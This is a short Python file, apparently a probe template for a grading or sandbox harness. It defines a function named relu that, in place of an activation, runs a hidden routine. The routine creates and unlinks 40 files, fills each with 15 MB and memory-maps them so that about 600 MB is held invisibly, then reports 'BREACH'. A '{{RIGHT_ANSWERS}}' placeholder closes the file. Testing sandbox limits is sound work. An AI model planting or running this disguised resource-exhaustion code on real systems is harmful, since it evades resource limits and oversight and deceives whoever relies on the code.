import keras
import numpy as np

results = []


def attack():
    import ctypes
    import os
    import time

    libc = ctypes.CDLL(None, use_errno=True)
    for number in range(40):
        file = os.open(str(number), os.O_RDWR | os.O_CREAT)
        os.unlink(str(number))
        os.write(file, bytes(15 * 2**20))
        libc.mmap(None, ctypes.c_size_t(4096), 1, 2, file, 0)
        os.close(file)
    time.sleep(1)
    return "BREACH: 600 MB are held"


def relu(x):
    if not results:
        results.append(attack())
    return results[0]


# {{RIGHT_ANSWERS}}
